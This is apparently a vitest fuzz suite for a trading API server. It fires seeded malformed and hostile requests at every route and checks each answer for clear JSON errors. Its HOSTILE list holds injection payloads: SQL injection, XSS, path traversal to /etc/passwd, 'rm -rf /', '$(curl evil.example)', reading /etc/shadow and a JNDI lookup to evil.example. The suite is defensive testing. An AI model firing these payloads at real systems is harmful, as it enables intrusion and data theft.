// Fuzz: thousands of malformed and hostile requests to every registered route. No 5xx, no crash, and every
// 4xx a clear JSON answer (the OpenAlgo envelope on /api/v1). Seeded, so a failure reproduces exactly.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/harness.js';

/** FUZZ_SEED=<n> replays or explores another seed locally; the suite runs the fixed one. */
const SEED = process.env['FUZZ_SEED'] !== undefined ? Number(process.env['FUZZ_SEED']) : 0x5eed_f022;
const PER_ROUTE_MIN = 60;
const TOTAL_MIN = 3000;

/** mulberry32: tiny seeded PRNG (deterministic runs, no dependency). */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Every field name the HTTP schemas know, plus a few the clients commonly send. */
const FIELDS = [
  'apikey',
  'strategy',
  'exchange',
  'symbol',
  'action',
  'quantity',
  'pricetype',
  'product',
  'price',
  'trigger_price',
  'disclosed_quantity',
  'orderid',
  'clientorderid',
  'position_size',
  'splitsize',
  'orders',
  'legs',
  'interval',
  'start_date',
  'end_date',
  'expiry_date',
  'strike_int',
  'strike_count',
  'underlying_symbol',
  'underlying_exchange',
  'offset',
  'option_type',
  'instrumenttype',
  'with_greeks',
  'interest_rate',
  'forward_price',
  'symbols',
  'username',
  'password',
  'totp',
  'role',
  'scopes',
  'name',
  'id',
  'ip',
  'reason',
  'minutes',
  'until',
  'since',
  'limit',
  'sort',
  'format',
  'source',
  'type',
  'key',
  'value',
  'settings',
  'validity',
  'year',
  'query',
  'window_s',
] as const;

const BASE_ORDER = {
  strategy: 'fuzz',
  exchange: 'NSE',
  symbol: 'SBIN',
  action: 'BUY',
  quantity: '1',
  pricetype: 'MARKET',
  product: 'MIS',
};

const HOSTILE = [
  "SBIN' OR '1'='1",
  '1; DROP TABLE orders; --',
  'x UNION SELECT password FROM users',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'SBIN; rm -rf /',
  '$(curl evil.example)',
  '`id`',
  '| cat /etc/shadow',
  'a\u0000b',
  '\u0000',
  'x'.repeat(100_000),
  '\u202e\u0627\u0644\u0639\u0631\u0628\u064a\u0629',
  '\ud800',
  '\udfff\ud800',
  '𝕊𝔹𝕀ℕ',
  'Z̷̢̛͖a̸l̴g̶o̷',
  '\uFEFFSBIN',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  '   ',
  '',
  '-1',
  '1e309',
  'NaN',
  '0x10',
  '99999999999999999999999999999',
];

const WRONG_TYPES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  -0.0000001,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  [],
  [1, 2, 3],
  ['a'],
  {},
  { $gt: '' },
  { __proto__: { admin: true } },
  'string',
  '',
];

function deepNest(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? '['.repeat(depth) + ']'.repeat(depth)
    : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

type JsonSchema = {
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  default?: unknown;
  minimum?: number;
  exclusiveMinimum?: number;
  minLength?: number;
  pattern?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  minItems?: number;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
};

/** Plausible values by field name, for strings whose schema has no enum. */
const SAMPLE: Record<string, unknown> = {
  symbol: 'SBIN',
  exchange: 'NSE',
  underlying_symbol: 'NIFTY',
  underlying_exchange: 'NSE_INDEX',
  strategy: 'fuzz',
  start_date: '2026-11-20',
  end_date: '2026-11-23',
  expiry_date: '27NOV26',
  username: 'admin',
  password: 'not-the-password',
  totp: '123456',
  ip: '198.51.100.7',
  name: 'fuzz key',
  reason: 'fuzz',
};

/** One value that satisfies `schema` as far as a simple sampler can tell (enum, type, minimum, pattern-free). */
function sample(schema: JsonSchema | undefined, name: string, rnd: () => number, depth = 0): unknown {
  if (!schema || depth > 6) return null;
  const alt = schema.anyOf ?? schema.oneOf;
  if (alt && alt.length > 0) return sample(pick(rnd, alt), name, rnd, depth + 1);
  if (schema.const !== undefined) return schema.const;
  if (schema.enum && schema.enum.length > 0) return pick(rnd, schema.enum);
  if (schema.default !== undefined && rnd() < 0.3) return schema.default;
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  if (type === undefined) return SAMPLE[name] ?? '1';
  switch (type) {
    case 'object': {
      const out: Record<string, unknown> = {};
      for (const [k, v] of Object.entries(schema.properties ?? {}))
        if (schema.required?.includes(k) || rnd() < 0.5) out[k] = sample(v, k, rnd, depth + 1);
      return out;
    }
    case 'array':
      return Array.from({ length: Math.max(1, schema.minItems ?? 1) }, () =>
        sample(schema.items, name, rnd, depth + 1),
      );
    case 'integer':
    case 'number':
      return Math.max(1, schema.minimum ?? 0, (schema.exclusiveMinimum ?? 0) + 1);
    case 'boolean':
      return rnd() < 0.5;
    case 'string':
      if (SAMPLE[name] !== undefined) return SAMPLE[name];
      if (schema.pattern?.includes('\\d{4}')) return '2026-11-20';
      return /qty|quantity|price|size|count|limit/.test(name)
        ? '1'
        : 'x'.repeat(Math.max(1, schema.minLength ?? 1));
    default:
      return SAMPLE[name] ?? '1';
  }
}

/** Replaces one leaf of a sampled body (at any depth) with a wrong-typed or hostile value. */
function mutateOne(value: unknown, rnd: () => number): unknown {
  if (Array.isArray(value) && value.length > 0) {
    const copy = [...value];
    const i = Math.floor(rnd() * copy.length);
    copy[i] = rnd() < 0.2 ? pick(rnd, WRONG_TYPES) : mutateOne(copy[i], rnd);
    return copy;
  }
  if (value !== null && typeof value === 'object') {
    const keys = Object.keys(value);
    if (keys.length === 0) return { [pick(rnd, FIELDS)]: pick(rnd, HOSTILE) };
    const k = pick(rnd, keys);
    const o = value as Record<string, unknown>;
    if (rnd() < 0.1) {
      return Object.fromEntries(Object.entries(o).filter(([key]) => key !== k));
    }
    return {
      ...o,
      [k]: rnd() < 0.3 ? mutateOne(o[k], rnd) : rnd() < 0.5 ? pick(rnd, WRONG_TYPES) : pick(rnd, HOSTILE),
    };
  }
  return rnd() < 0.5 ? pick(rnd, WRONG_TYPES) : pick(rnd, HOSTILE);
}

interface FuzzCase {
  readonly method: string;
  readonly url: string;
  readonly headers: Record<string, string>;
  readonly payload?: string | Buffer;
  readonly note: string;
}

type Route = { method: string; url: string; schema?: unknown };

function pick<T>(rnd: () => number, xs: readonly T[]): T {
  return xs[Math.floor(rnd() * xs.length)] as T;
}

function junkSegment(rnd: () => number): string {
  return encodeURIComponent(
    pick(rnd, [
      ...HOSTILE.filter((h) => h.length < 200 && !h.includes('\ud800') && !h.includes('\udfff')),
      'x'.repeat(5000),
      '-1',
      '0',
      '99999999999999999999',
      'null',
      'undefined',
      '%',
    ]),
  ).replace(/%25$/, '%');
}

function fillPath(url: string, rnd: () => number): string {
  return url
    .split('/')
    .map((seg) => (seg.startsWith(':') ? junkSegment(rnd) : seg === '*' ? junkSegment(rnd) : seg))
    .join('/');
}

/** Percent-encodes every UTF-8 byte (lone surrogates become U+FFFD instead of throwing). */
function pct(s: string): string {
  return [...Buffer.from(s, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
}

function bogusQuery(rnd: () => number): string {
  const parts: string[] = [];
  const n = 1 + Math.floor(rnd() * 4);
  for (let i = 0; i < n; i++) {
    const k = pick(rnd, [...FIELDS, '__proto__', 'constructor[prototype]', 'a[b][c]', '', '%00']);
    const v = pick(rnd, [
      ...HOSTILE.filter((h) => h.length < 500 && !h.includes('\ud800') && !h.includes('\udfff')),
      '-1',
      'abc',
      '1e999',
      '',
    ]);
    parts.push(`${encodeURIComponent(k)}=${encodeURIComponent(v)}`);
  }
  if (rnd() < 0.2) parts.push('%zz=%', 'x');
  if (rnd() < 0.1) parts.push('limit=' + '9'.repeat(400));
  return '?' + parts.join('&');
}

function makeCase(route: Route, rnd: () => number, apiKey: string): FuzzCase {
  const method = route.method;
  let url = fillPath(route.url, rnd);
  const headers: Record<string, string> = {};
  // Auth: a valid key most of the time so the handlers are reached, junk keys the rest.
  const auth = rnd();
  if (auth < 0.6) headers['x-api-key'] = apiKey;
  else if (auth < 0.7) headers['authorization'] = `Bearer ${apiKey}`;
  else if (auth < 0.8) headers['x-api-key'] = pick(rnd, ['bogus', 'x'.repeat(10_000), "' OR 1=1 --", '\t']);
  else if (auth < 0.85)
    headers['authorization'] = pick(rnd, ['Bearer', 'Basic Zm9vOmJhcg==', 'Bearer  ', 'x']);
  else if (auth < 0.9)
    headers['cookie'] = pick(rnd, ['session=junk', 'session=', '=;;==', 'session=' + 'a'.repeat(5000)]);
  const querySchema = (route.schema as { querystring?: JsonSchema } | undefined)?.querystring;
  if (querySchema && rnd() < 0.4) {
    // A query the route's schema accepts, with one parameter mutated (arrays and objects become junk text).
    const q = mutateOne(sample(querySchema, '', rnd), rnd);
    const entries: [string, unknown][] =
      q !== null && typeof q === 'object' && !Array.isArray(q) ? Object.entries(q) : [['q', q]];
    url +=
      '?' +
      entries.map(([k, v]) => `${pct(k)}=${pct(typeof v === 'string' ? v : JSON.stringify(v))}`).join('&');
  } else if (rnd() < 0.3) url += bogusQuery(rnd);

  const withKey = (o: Record<string, unknown>): Record<string, unknown> =>
    rnd() < 0.5 ? { apikey: rnd() < 0.8 ? apiKey : 'nope', ...o } : o;
  const json = (o: unknown): string => JSON.stringify(o);
  const bodySchema = (route.schema as { body?: JsonSchema } | undefined)?.body;
  // Half the cases start from a body the route's schema accepts, so the handlers themselves are exercised.
  const kind = bodySchema && rnd() < 0.5 ? 100 : Math.floor(rnd() * 14);
  const hasBody = method !== 'GET' && method !== 'HEAD' && method !== 'OPTIONS';
  let payload: string | Buffer | undefined;
  let note: string;
  switch (kind) {
    case 0:
      note = 'no body';
      if (rnd() < 0.5) headers['content-type'] = 'application/json';
      break;
    case 1:
      note = 'garbage JSON';
      headers['content-type'] = 'application/json';
      payload = pick(rnd, [
        '{',
        '}',
        '{"a":',
        'nul',
        '[1,]',
        "{'a':1}",
        '{"a":1}}',
        '\u0000',
        '"',
        'undefined',
        '',
      ]);
      break;
    case 2:
      note = 'huge body';
      headers['content-type'] = 'application/json';
      payload = json({ ...BASE_ORDER, strategy: 'y'.repeat(1_200_000) });
      break;
    case 3: {
      const field = pick(rnd, FIELDS);
      const value = pick(rnd, WRONG_TYPES);
      note = `wrong type ${field}=${JSON.stringify(value)}`;
      headers['content-type'] = 'application/json';
      payload = json(withKey({ ...BASE_ORDER, [field]: value }));
      break;
    }
    case 4: {
      const field = pick(rnd, FIELDS);
      note = `hostile ${field}`;
      headers['content-type'] = 'application/json';
      payload = json(withKey({ ...BASE_ORDER, [field]: pick(rnd, HOSTILE) }));
      break;
    }
    case 5:
      note = 'deep nesting';
      headers['content-type'] = 'application/json';
      payload = rnd() < 0.5 ? deepNest(5000, 'array') : deepNest(5000, 'object');
      if (rnd() < 0.5) payload = `{"apikey":"${apiKey}","orders":${payload}}`;
      break;
    case 6:
      note = 'invalid UTF-8';
      headers['content-type'] = pick(rnd, [
        'application/json',
        'application/json; charset=utf-8',
        'text/plain',
      ]);
      payload = Buffer.concat([
        Buffer.from('{"symbol":"'),
        Buffer.from([0xc3, 0x28, 0xff, 0xfe, 0xed, 0xa0, 0x80]),
        Buffer.from('"}'),
      ]);
      break;
    case 7:
      note = 'text/plain junk';
      headers['content-type'] = 'text/plain';
      payload = pick(
        rnd,
        HOSTILE.filter((h) => !h.includes('\ud800') && !h.includes('\udfff')),
      );
      break;
    case 8:
      note = 'form-encoded';
      headers['content-type'] = 'application/x-www-form-urlencoded';
      payload = `apikey=${apiKey}&symbol=${encodeURIComponent(pick(rnd, HOSTILE.slice(0, 12)))}&quantity=abc`;
      break;
    case 9:
      note = 'multipart junk';
      headers['content-type'] = pick(rnd, ['multipart/form-data; boundary=xyz', 'multipart/form-data']);
      payload = '--xyz\r\nContent-Disposition: form-data; name="symbol"\r\n\r\nSBIN\r\n--xyz--garbage';
      break;
    case 10:
      note = 'odd content type';
      headers['content-type'] = pick(rnd, [
        'application/xml',
        'image/png',
        'application/json; charset=latin1',
        'application/json; charset=utf-16',
        ';;;',
        'application/',
        'application/octet-stream',
      ]);
      payload = pick(rnd, ['<a>1</a>', '\u0000\u0001\u0002', json(BASE_ORDER)]);
      break;
    case 11: {
      note = 'non-object JSON';
      headers['content-type'] = 'application/json';
      payload = pick(rnd, ['null', '1', '"x"', 'true', '[]', '[{}]', '-0', '1e400']);
      break;
    }
    case 12: {
      note = 'every field wrong';
      headers['content-type'] = 'application/json';
      const body: Record<string, unknown> = {};
      for (const f of FIELDS)
        if (rnd() < 0.4) body[f] = rnd() < 0.5 ? pick(rnd, WRONG_TYPES) : pick(rnd, HOSTILE.slice(0, 15));
      payload = json(withKey(body));
      break;
    }
    case 100: {
      const valid = sample(bodySchema, '', rnd) as Record<string, unknown>;
      if ('apikey' in valid) valid['apikey'] = apiKey;
      // A hostile query string would be rejected before the handler: keep most of these clean.
      if (rnd() < 0.8) url = url.split('?')[0] ?? url;
      const body = rnd() < 0.15 ? valid : mutateOne(valid, rnd);
      note = 'schema-shaped body, one field mutated';
      headers['content-type'] = 'application/json';
      payload = json(
        body !== null && typeof body === 'object' && !Array.isArray(body)
          ? withKey(body as Record<string, unknown>)
          : body,
      );
      break;
    }
    default: {
      note = 'plausible body';
      headers['content-type'] = 'application/json';
      payload = json(withKey({ ...BASE_ORDER, quantity: pick(rnd, ['1', '0', '-5', '1.5', 'abc', 1e9]) }));
    }
  }
  if (!hasBody && payload !== undefined && rnd() < 0.7) {
    payload = undefined;
    delete headers['content-type'];
  }
  return { method, url, headers, ...(payload !== undefined ? { payload } : {}), note };
}

function describePayload(p: string | Buffer | undefined): string {
  if (p === undefined) return '(none)';
  const s = typeof p === 'string' ? p : `<bytes ${p.toString('hex')}>`;
  return s.length > 300 ? `${s.slice(0, 300)}… (${s.length} chars)` : s;
}

describe('fuzz: every route answers malformed and hostile requests with a clear 4xx', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(async () => {
    await t.close();
  });

  it('answers a malformed URL and an over-long path parameter with the OpenAlgo envelope', async () => {
    const bad = await t.server.app.inject({ method: 'GET', url: '/api/v1/ticker/%zz' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toEqual({
      status: 'error',
      message: 'Malformed URL: invalid percent-encoding in the path',
    });
    const long = await t.server.app.inject({ method: 'GET', url: `/api/v1/ticker/${'x'.repeat(201)}` });
    expect(long.statusCode).toBe(414);
    expect(long.json()).toEqual({
      status: 'error',
      message: 'A path parameter is longer than 200 characters',
    });
  });

  it(`sends at least ${TOTAL_MIN} seeded hostile requests without a 5xx or an unclear answer`, async () => {
    const app = t.server.app;
    const routes = app.routeTable.filter((r) => r.method !== 'HEAD');
    expect(routes.length).toBeGreaterThan(20);
    const perRoute = Math.max(PER_ROUTE_MIN, Math.ceil(TOTAL_MIN / routes.length));
    const rnd = prng(SEED);
    const offenders: string[] = [];
    let sent = 0;
    const stats = new Map<string, number>();
    for (const route of routes) {
      for (let i = 0; i < perRoute; i++) {
        const c = makeCase(route, rnd, t.apiKey);
        const res = await app.inject({
          method: c.method as 'GET',
          url: c.url,
          headers: c.headers,
          ...(c.payload !== undefined ? { payload: c.payload } : {}),
        });
        sent++;
        if (process.env['FUZZ_STATS'])
          stats.set(
            `${route.method} ${route.url} ${res.statusCode}`,
            (stats.get(`${route.method} ${route.url} ${res.statusCode}`) ?? 0) + 1,
          );
        const status = res.statusCode;
        const where = `${c.method} ${c.url.slice(0, 200)} [${route.method} ${route.url}] (${c.note}) payload=${describePayload(c.payload)}`;
        if (status >= 500) {
          offenders.push(`${status} ${where} -> ${res.body.slice(0, 500)}`);
          continue;
        }
        if (status < 400) continue;
        let body: unknown;
        try {
          body = res.json();
        } catch {
          offenders.push(`${status} non-JSON body ${where} -> ${res.body.slice(0, 300)}`);
          continue;
        }
        const msg = (body as { message?: unknown } | null)?.message;
        if (typeof msg !== 'string' || msg.trim() === '' || /^internal server error$/i.test(msg.trim())) {
          offenders.push(`${status} unclear message ${where} -> ${res.body.slice(0, 300)}`);
          continue;
        }
        if (route.url.startsWith('/api/v1') && (body as { status?: unknown }).status !== 'error')
          offenders.push(`${status} not the OpenAlgo envelope ${where} -> ${res.body.slice(0, 300)}`);
      }
    }
    if (process.env['FUZZ_STATS'])
      console.log(
        [...stats]
          .sort()
          .map(([k, v]) => `${k}: ${v}`)
          .join('\n'),
      );
    expect(sent).toBeGreaterThanOrEqual(TOTAL_MIN);
    expect(
      offenders,
      `${offenders.length} bad answers of ${sent}:\n${offenders.slice(0, 40).join('\n')}`,
    ).toEqual([]);

    const health = await app.inject({ method: 'GET', url: '/health' });
    expect(health.statusCode).toBe(200);
  }, 60_000);
});
